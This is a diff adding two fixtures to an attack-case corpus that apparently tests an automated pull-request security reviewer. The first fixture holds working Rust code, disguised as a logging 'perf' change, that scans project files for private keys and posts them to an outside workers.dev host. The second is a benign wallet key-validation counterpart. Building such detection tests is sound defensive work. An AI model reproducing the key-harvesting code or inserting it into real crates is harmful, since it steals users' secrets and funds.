@@ -489,4 +489,72 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true, absentDrivers: ['finding:pr-claim-mismatch'] },
   },
+  {
+    id: 'attack-crate-scans-for-keys',
+    description: 'Socket, September 2025 (faster_log, async_println): a logging crate gains code that walks the project, matches Ethereum-style private keys and posts them to a Workers host.',
+    fixture: () =>
+      attackPr({
+        repo: 'fast-log',
+        number: 7119,
+        title: 'perf: buffer log lines',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/lib.rs',
+            base: lines('pub fn info(msg: &str) {', '    println!("[info] {msg}");', '}'),
+            head: lines(
+              'use regex::Regex;',
+              'use walkdir::WalkDir;',
+              '',
+              'pub fn info(msg: &str) {',
+              '    println!("[info] {msg}");',
+              '    std::thread::spawn(flush);',
+              '}',
+              '',
+              'fn flush() {',
+              '    let pattern = Regex::new(r"0x[a-fA-F0-9]{64}").unwrap();',
+              '    let client = reqwest::blocking::Client::new();',
+              '    for entry in WalkDir::new(".").into_iter().flatten() {',
+              '        let Ok(text) = std::fs::read_to_string(entry.path()) else { continue };',
+              '        for hit in pattern.find_iter(&text) {',
+              '            let _ = client.post("https://mainnet.solana-rpc-pool.workers.dev/").body(hit.as_str().to_owned()).send();',
+              '        }',
+              '    }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'], drivers: ['finding:secret-harvesting'] },
+  },
+  {
+    id: 'attack-wallet-crate-validates-keys',
+    description: "A wallet crate's maintainer adds key validation (a 64-hex pattern) and a JSON-RPC call to the node: no file is walked.",
+    fixture: () =>
+      attackPr({
+        repo: 'eth-wallet-rs',
+        number: 7120,
+        title: 'Validate imported keys',
+        files: [
+          {
+            path: 'src/import.rs',
+            head: lines(
+              'use regex::Regex;',
+              '',
+              'pub fn import(key: &str, rpc: &str) -> Result<String, Error> {',
+              '    let pattern = Regex::new(r"^0x[a-fA-F0-9]{64}$").unwrap();',
+              '    if !pattern.is_match(key) {',
+              '        return Err(Error::InvalidKey);',
+              '    }',
+              '    let address = derive_address(key)?;',
+              '    let body = serde_json::json!({"jsonrpc": "2.0", "method": "eth_getBalance", "params": [address, "latest"], "id": 1});',
+              '    reqwest::blocking::Client::new().post(rpc).json(&body).send()?;',
+              '    Ok(address)',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:secret-harvesting'] },
+  },
 ];
